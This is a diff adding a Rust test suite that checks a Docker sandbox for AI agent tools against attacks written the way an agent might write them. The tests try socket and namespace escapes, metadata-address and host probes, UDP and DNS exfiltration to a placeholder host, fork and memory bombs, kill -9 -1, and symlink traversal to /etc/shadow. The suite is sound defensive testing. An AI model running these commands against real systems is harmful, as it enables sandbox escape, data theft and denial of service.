@@ -1,0 +1,505 @@
+//! The attack suite: each attack runs as the sandbox user through the real DockerExecutor,
+//! written the way an agent would write it, and asserts the outcome.
+
+mod common;
+
+use std::net::{IpAddr, SocketAddr};
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use common::{docker, TestPool};
+use serde_json::{json, Value};
+use tokio_util::sync::CancellationToken;
+use zcbot_sandbox::exec::{Executor, ToolCall, ToolResult};
+use zcbot_sandbox::UserId;
+
+struct Lab {
+    t: TestPool,
+    ex: Executor,
+}
+
+impl Lab {
+    async fn new(tag: &str) -> Lab {
+        Lab::with(TestPool::new(tag)).await
+    }
+
+    async fn with(t: TestPool) -> Lab {
+        let mut cfg = t.config();
+        cfg.backend = zcbot_sandbox::config::Backend::Docker;
+        let ex = Executor::from_config(cfg).await.expect("docker executor");
+        Lab { t, ex }
+    }
+
+    fn user(&self, name: &str) -> UserId {
+        self.t.user(name)
+    }
+
+    async fn run(
+        &self,
+        user: &UserId,
+        tool: &str,
+        args: Value,
+    ) -> zcbot_sandbox::Result<ToolResult> {
+        self.ex
+            .run(
+                user,
+                ToolCall::parse(tool, args).unwrap(),
+                &CancellationToken::new(),
+            )
+            .await
+    }
+
+    async fn sh(&self, user: &UserId, command: &str) -> ToolResult {
+        self.run(user, "shell", json!({ "command": command, "timeout": 60 }))
+            .await
+            .unwrap()
+    }
+
+    async fn py(&self, user: &UserId, code: &str) -> ToolResult {
+        self.run(user, "run_python", json!({ "code": code, "timeout": 60 }))
+            .await
+            .unwrap()
+    }
+
+    fn container(&self, user: &UserId) -> String {
+        self.t.container_name(user)
+    }
+}
+
+/// A TCP listener on the host that counts what reaches it.
+async fn host_listener(ip: IpAddr) -> (u16, Arc<AtomicUsize>, tokio::task::JoinHandle<()>) {
+    let l = tokio::net::TcpListener::bind(SocketAddr::new(ip, 0))
+        .await
+        .unwrap();
+    let port = l.local_addr().unwrap().port();
+    let hits = Arc::new(AtomicUsize::new(0));
+    let h = hits.clone();
+    let task = tokio::spawn(async move {
+        while let Ok(_c) = l.accept().await {
+            h.fetch_add(1, Ordering::SeqCst);
+        }
+    });
+    // The listener is real: the host itself reaches it.
+    tokio::net::TcpStream::connect((ip, port))
+        .await
+        .expect("host reaches its own listener");
+    tokio::time::sleep(Duration::from_millis(50)).await;
+    hits.store(0, Ordering::SeqCst);
+    (port, hits, task)
+}
+
+fn gateway(lab: &Lab) -> IpAddr {
+    lab.ex
+        .pool()
+        .unwrap()
+        .network()
+        .gateway
+        .as_deref()
+        .expect("network gateway")
+        .parse()
+        .unwrap()
+}
+
+const CONNECT: &str = "import socket,sys\nhost,port=sys.argv[1],int(sys.argv[2])\ns=socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET)\ns.settimeout(3)\ntry:\n    s.connect((host,port)); print('CONNECTED')\nexcept Exception as e:\n    print('blocked', type(e).__name__)\n";
+
+async fn try_connect(lab: &Lab, user: &UserId, host: &str, port: u16) -> String {
+    let code = CONNECT
+        .replace("sys.argv[1]", &format!("{host:?}"))
+        .replace("int(sys.argv[2])", &port.to_string());
+    lab.py(user, &code).await.stdout
+}
+
+#[tokio::test]
+async fn no_docker_socket_and_no_host_namespaces() {
+    let lab = Lab::new("aisol").await;
+    let u = lab.user("u");
+    let r = lab.sh(&u, "ls -la /var/run/docker.sock /run/docker.sock 2>&1; find / -name 'docker.sock' -o -name 'containerd.sock' 2>/dev/null | head; echo end").await;
+    assert!(
+        r.stdout.contains("No such file") && r.stdout.trim_end().ends_with("end"),
+        "{}",
+        r.stdout
+    );
+    assert!(
+        !r.stdout.contains(".sock\n"),
+        "a runtime socket is visible: {}",
+        r.stdout
+    );
+    for ns in ["pid", "net", "mnt", "ipc", "uts", "cgroup"] {
+        let inside = lab
+            .sh(&u, &format!("readlink /proc/self/ns/{ns}"))
+            .await
+            .stdout;
+        let host = std::fs::read_link(format!("/proc/self/ns/{ns}")).unwrap();
+        assert_ne!(
+            inside.trim(),
+            host.to_string_lossy(),
+            "the sandbox shares the host's {ns} namespace"
+        );
+    }
+}
+
+#[tokio::test]
+async fn no_capabilities_no_new_privileges_seccomp_on() {
+    let lab = Lab::new("acaps").await;
+    let u = lab.user("u");
+    let r = lab
+        .sh(
+            &u,
+            "grep -E '^(CapInh|CapPrm|CapEff|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status",
+        )
+        .await
+        .stdout;
+    for want in [
+        "CapInh:\t0000000000000000",
+        "CapPrm:\t0000000000000000",
+        "CapEff:\t0000000000000000",
+        "CapAmb:\t0000000000000000",
+        "NoNewPrivs:\t1",
+        "Seccomp:\t2",
+    ] {
+        assert!(r.contains(want), "{want} missing in:\n{r}");
+    }
+    // No setuid way up either.
+    let r = lab
+        .sh(&u, "su -c id root </dev/null 2>&1; sudo id 2>&1; echo end")
+        .await
+        .stdout;
+    assert!(!r.contains("uid=0"), "{r}");
+}
+
+#[tokio::test]
+async fn the_host_is_unreachable_through_the_gateway_and_its_primary_address_tcp_and_udp() {
+    let lab = Lab::new("ahost").await;
+    let u = lab.user("u");
+    let mut targets = vec![gateway(&lab)];
+    targets.extend(zcbot_sandbox::smoke::primary_address());
+    for ip in targets {
+        let (port, hits, task) = host_listener(ip).await;
+        let out = try_connect(&lab, &u, &ip.to_string(), port).await;
+        assert!(
+            out.starts_with("blocked"),
+            "TCP to the host at {ip}:{port}: {out}"
+        );
+        assert_eq!(
+            hits.load(Ordering::SeqCst),
+            0,
+            "the host's listener at {ip} was reached"
+        );
+        task.abort();
+
+        let udp = tokio::net::UdpSocket::bind(SocketAddr::new(ip, 0))
+            .await
+            .unwrap();
+        let uport = udp.local_addr().unwrap().port();
+        let code = format!("import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n    s.sendto(b'exfil', ('{ip}', {uport})); print('sent')\nexcept Exception as e:\n    print('blocked', type(e).__name__)");
+        let out = lab.py(&u, &code).await.stdout;
+        let mut buf = [0u8; 64];
+        let got = tokio::time::timeout(Duration::from_millis(500), udp.recv_from(&mut buf)).await;
+        assert!(
+            got.is_err(),
+            "UDP from the sandbox reached the host at {ip} ({out})"
+        );
+    }
+}
+
+#[tokio::test]
+async fn other_users_sandboxes_the_metadata_address_and_link_local_are_unreachable() {
+    let lab = Lab::new("anet").await;
+    let (a, b) = (lab.user("a"), lab.user("b"));
+    let ip = docker(&[
+        "inspect",
+        "-f",
+        "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
+        &lab.ex.pool().unwrap().ensure(&b).await.unwrap().name,
+    ]);
+    let server = lab.run(&b, "shell", json!({"command": "timeout 20 python3 -m http.server 8080 --bind 0.0.0.0 >/dev/null 2>&1", "timeout": 30}));
+    let probes = async {
+        tokio::time::sleep(Duration::from_millis(1500)).await;
+        let own = try_connect(&lab, &b, &ip, 8080).await;
+        let other = try_connect(&lab, &a, &ip, 8080).await;
+        let meta = try_connect(&lab, &a, "169.254.169.254", 80).await;
+        let ll = try_connect(&lab, &a, "fe80::1%eth0", 80).await;
+        (own, other, meta, ll)
+    };
+    let (_, (own, other, meta, ll)) = tokio::join!(server, probes);
+    assert_eq!(
+        own.trim(),
+        "CONNECTED",
+        "b's own server answers b, so it is really listening"
+    );
+    assert!(other.starts_with("blocked"), "a reached b at {ip}: {other}");
+    assert!(meta.starts_with("blocked"), "metadata address: {meta}");
+    assert!(ll.starts_with("blocked"), "IPv6 link-local: {ll}");
+}
+
+#[tokio::test]
+async fn dns_through_the_embedded_resolver_goes_nowhere() {
+    let lab = Lab::new("adns").await;
+    let (a, b) = (lab.user("a"), lab.user("b"));
+    let other = lab.ex.pool().unwrap().ensure(&b).await.unwrap().name;
+    let code = format!("import socket\nfor name in ['{other}', 'exfil-c2VjcmV0.example.com', 'localhost']:\n    try:\n        print(name, socket.getaddrinfo(name, 53)[0][4][0])\n    except Exception as e:\n        print(name, 'failed')");
+    let out = lab.py(&a, &code).await.stdout;
+    assert!(
+        out.contains(&format!("{other} failed")),
+        "another user's sandbox resolves: {out}"
+    );
+    assert!(out.contains("exfil-c2VjcmV0.example.com failed"), "{out}");
+    assert!(
+        out.contains("localhost 127.0.0.1"),
+        "local names still work: {out}"
+    );
+    let r = lab.py(&a, "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(2)\ntry:\n    s.sendto(b'\\x00'*12, ('127.0.0.11', 53)); s.recv(512); print('answered')\nexcept Exception as e:\n    print('blocked', type(e).__name__)").await.stdout;
+    assert!(
+        r.starts_with("blocked"),
+        "the embedded resolver answered: {r}"
+    );
+}
+
+#[tokio::test]
+async fn raw_sockets_firewall_changes_unshare_mount_keyctl_are_refused() {
+    let lab = Lab::new("apriv").await;
+    let u = lab.user("u");
+    let r = lab.py(&u, "import socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('RAW OK')\nexcept PermissionError:\n    print('refused')").await.stdout;
+    assert_eq!(r.trim(), "refused");
+    let r = lab.sh(&u, "/usr/sbin/iptables -S 2>&1; /usr/sbin/iptables -P OUTPUT ACCEPT 2>&1; /usr/sbin/ip6tables -F 2>&1; /usr/sbin/iptables-restore </dev/null 2>&1; echo end").await.stdout;
+    assert!(!r.contains("-P OUTPUT"), "the user listed the rules: {r}");
+    assert!(
+        r.matches("denied").count() + r.matches("must be root").count() >= 3,
+        "{r}"
+    );
+    let r = lab
+        .sh(&u, "unshare -Ur id 2>&1; unshare -n true 2>&1; echo rc=$?")
+        .await
+        .stdout;
+    assert!(
+        !r.contains("uid=0") && !r.contains("rc=0"),
+        "unshare worked: {r}"
+    );
+    let r = lab
+        .sh(&u, "mount -t tmpfs none /tmp 2>&1; echo rc=$?")
+        .await
+        .stdout;
+    assert!(!r.contains("rc=0"), "mount worked: {r}");
+    let r = lab.py(&u, "import ctypes,ctypes.util,os\nlibc=ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)\nKEYCTL=250\nr=libc.syscall(KEYCTL, 0, -3, 0)\nprint(r, os.strerror(ctypes.get_errno()))").await.stdout;
+    assert!(r.starts_with("-1"), "keyctl worked: {r}");
+    // And the rules are exactly what the entry installed.
+    let (_, rules, _) = common::exec_as(
+        &lab.container(&u),
+        "0:0",
+        "/usr/sbin/iptables -S OUTPUT | head -1",
+    );
+    assert_eq!(rules, "-P OUTPUT DROP");
+}
+
+#[tokio::test]
+async fn the_root_is_read_only_and_tmp_is_capped() {
+    let lab = Lab::new("afs").await;
+    let u = lab.user("u");
+    let r = lab.sh(&u, "for p in /etc/x /usr/bin/x /bin/x /root/x /var/x /x /usr/local/bin/zcbot-supervise; do echo hi > $p 2>/dev/null && echo WROTE $p; done; echo end").await.stdout;
+    assert_eq!(r.trim(), "end", "{r}");
+    let r = lab.sh(&u, "dd if=/dev/zero of=/tmp/flood bs=1M count=200 2>&1 | grep -c 'No space left'; du -m /tmp/flood | cut -f1").await;
+    assert!(
+        r.stdout.starts_with("1\n"),
+        "the flood did not hit the cap: {:?}",
+        r.stdout
+    );
+    let mb: u64 = r.stdout.lines().last().unwrap().trim().parse().unwrap();
+    assert!(mb <= 64, "/tmp held {mb} MiB");
+    // The sandbox and the next call still work; the host's disk was never touched.
+    assert_eq!(lab.sh(&u, "rm /tmp/flood; echo ok").await.stdout, "ok\n");
+}
+
+#[tokio::test]
+async fn a_fork_bomb_stays_inside_its_pids_limit_and_the_next_call_works() {
+    let lab = Lab::new("afork").await;
+    let u = lab.user("u");
+    let started = Instant::now();
+    let r = lab
+        .run(
+            &u,
+            "shell",
+            json!({"command": "bomb() { bomb | bomb & }; bomb; sleep 30", "timeout": 5}),
+        )
+        .await
+        .unwrap();
+    // Either the bomb starves its own shell of pids (it exits, and the supervisor kills the rest)
+    // or it runs into the timeout: both end within the call.
+    assert!(
+        r.timed_out || r.stderr.contains("Cannot fork"),
+        "{:?}",
+        r.exit_code
+    );
+    assert!(started.elapsed() < Duration::from_secs(15));
+    let pids = docker(&[
+        "inspect",
+        "-f",
+        "{{.HostConfig.PidsLimit}}",
+        &lab.container(&u),
+    ]);
+    assert_eq!(pids, "128");
+    let r = lab.sh(&u, "echo alive; ps -u 1000 -o pid= | wc -l").await;
+    assert!(r.stdout.starts_with("alive\n"), "{r:?}");
+    let left: u32 = r.stdout.lines().nth(1).unwrap().trim().parse().unwrap();
+    assert!(left <= 4, "{left} processes of the bomb are left");
+}
+
+#[tokio::test]
+async fn a_memory_bomb_is_killed_inside_its_sandbox_only() {
+    let mut t = TestPool::new("amem");
+    t.set("ZCBOT_SANDBOX_MEMORY", "128MiB");
+    let lab = Lab::with(t).await;
+    let (a, b) = (lab.user("a"), lab.user("b"));
+    lab.sh(&b, "true").await;
+    let bomb = lab.py(&a, "x = []\nwhile True:\n    x.append(bytearray(16 << 20))");
+    let neighbour = async {
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        lab.sh(&b, "sleep 1; echo fine").await
+    };
+    let (r, other) = tokio::join!(bomb, neighbour);
+    assert_eq!(
+        r.exit_code,
+        Some(137),
+        "the bomb should be OOM-killed: {r:?}"
+    );
+    assert_eq!(other.stdout, "fine\n", "another user's call was affected");
+    assert_eq!(lab.sh(&a, "echo recovered").await.stdout, "recovered\n");
+}
+
+#[tokio::test]
+async fn kill_minus_one_from_the_sandbox_is_survived() {
+    let lab = Lab::new("akill").await;
+    let u = lab.user("u");
+    lab.sh(&u, "true").await;
+    let r = lab.sh(&u, "sleep 100 & kill -9 -1; echo unreachable").await;
+    assert!(!r.stdout.contains("unreachable"), "{r:?}");
+    assert_eq!(
+        lab.sh(&u, "echo next").await.stdout,
+        "next\n",
+        "the next call works"
+    );
+    let r = lab
+        .sh(&u, "ps -u 1000 -o args= | grep -c '^sleep 100' || true")
+        .await;
+    assert_eq!(r.stdout.trim(), "0", "orphans survived");
+}
+
+#[tokio::test]
+async fn an_escaped_process_that_ignores_sigterm_is_gone_after_the_timeout() {
+    let lab = Lab::new("aescape").await;
+    let u = lab.user("u");
+    let r = lab.run(&u, "run_python", json!({"timeout": 1, "code": "import os, signal, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        signal.signal(signal.SIGTERM, signal.SIG_IGN)\n        os.execvp('sleep', ['sleep', '9191'])\n    os._exit(0)\ntime.sleep(60)"})).await.unwrap();
+    assert!(r.timed_out);
+    let left = lab
+        .sh(&u, "ps -u 1000 -o args= | grep -c '^sleep 9191' || true")
+        .await
+        .stdout;
+    assert_eq!(
+        left.trim(),
+        "0",
+        "the escaped, TERM-ignoring process survived"
+    );
+}
+
+#[tokio::test]
+async fn an_output_flood_does_not_grow_the_daemons_memory() {
+    fn rss_kib() -> u64 {
+        let status = std::fs::read_to_string("/proc/self/status").unwrap();
+        status
+            .lines()
+            .find(|l| l.starts_with("VmRSS:"))
+            .unwrap()
+            .split_whitespace()
+            .nth(1)
+            .unwrap()
+            .parse()
+            .unwrap()
+    }
+    let lab = Lab::new("aflood").await;
+    let u = lab.user("u");
+    lab.sh(&u, "true").await;
+    let before = rss_kib();
+    let r = lab
+        .sh(&u, "head -c 400000000 /dev/zero | tr '\\0' 'x'")
+        .await;
+    let grown_mib = rss_kib().saturating_sub(before) / 1024;
+    assert!(r.truncated.stdout);
+    assert!(r.stdout.len() <= (1 << 20) + 100);
+    // 400 MB went through; the capture keeps 1 MiB. Other tests share this process, so allow slack.
+    assert!(
+        grown_mib < 64,
+        "the daemon grew by {grown_mib} MiB during a 400 MB flood"
+    );
+}
+
+#[tokio::test]
+async fn users_never_see_each_others_files_or_tmp() {
+    let lab = Lab::new("afiles").await;
+    let (a, b) = (lab.user("a"), lab.user("b"));
+    lab.sh(
+        &a,
+        "echo a-secret > /workspace/secret; echo a-tmp > /tmp/secret",
+    )
+    .await;
+    let r = lab.sh(&b, "cat /workspace/secret /tmp/secret 2>&1; ls /workspace /tmp; find / -name secret 2>/dev/null; echo end").await;
+    assert!(
+        !r.stdout.contains("a-secret") && !r.stdout.contains("a-tmp"),
+        "{}",
+        r.stdout
+    );
+    for path in [
+        format!("../{a}/secret"),
+        format!("/workspace/../{a}/secret"),
+    ] {
+        let err = lab
+            .run(&b, "read_file", json!({ "path": path }))
+            .await
+            .unwrap_err();
+        assert_eq!(err.kind(), "file", "{path}: {err}");
+    }
+    for crafted in [
+        "../a",
+        "a/../b",
+        "A",
+        "a.b",
+        "zcbot-sandbox-x/..",
+        "",
+        "a\u{0}",
+    ] {
+        assert!(UserId::parse(crafted).is_err(), "{crafted:?} accepted");
+    }
+}
+
+#[tokio::test]
+async fn links_and_dots_planted_between_calls_never_lead_file_tools_out() {
+    let lab = Lab::new("alinks").await;
+    let u = lab.user("u");
+    let outside = lab.t.root.join("host-only");
+    std::fs::create_dir_all(&outside).unwrap();
+    std::fs::write(outside.join("secret"), "host secret").unwrap();
+    lab.sh(&u, &format!("ln -s {0} out; ln -s {0}/secret s; ln -s / root; mkdir d; ln -s ../.. d/up; ln /etc/passwd hard 2>/dev/null; true", outside.display())).await;
+    for (tool, args) in [
+        ("read_file", json!({"path": "s"})),
+        ("read_file", json!({"path": "out/secret"})),
+        ("read_file", json!({"path": "root/etc/shadow"})),
+        ("read_file", json!({"path": "d/up/secret"})),
+        ("read_file", json!({"path": "hard"})),
+        ("write_file", json!({"path": "out/planted", "content": "x"})),
+        ("write_file", json!({"path": "s", "content": "overwritten"})),
+        ("list_dir", json!({"path": "out"})),
+        ("delete_path", json!({"path": "out/secret"})),
+        ("delete_path", json!({"path": "../"})),
+    ] {
+        let res = lab.run(&u, tool, args.clone()).await;
+        assert!(
+            res.is_err(),
+            "{tool} {args} was allowed: {:?}",
+            res.map(|r| r.data)
+        );
+    }
+    assert_eq!(
+        std::fs::read_to_string(outside.join("secret")).unwrap(),
+        "host secret"
+    );
+    assert!(!outside.join("planted").exists());
+}
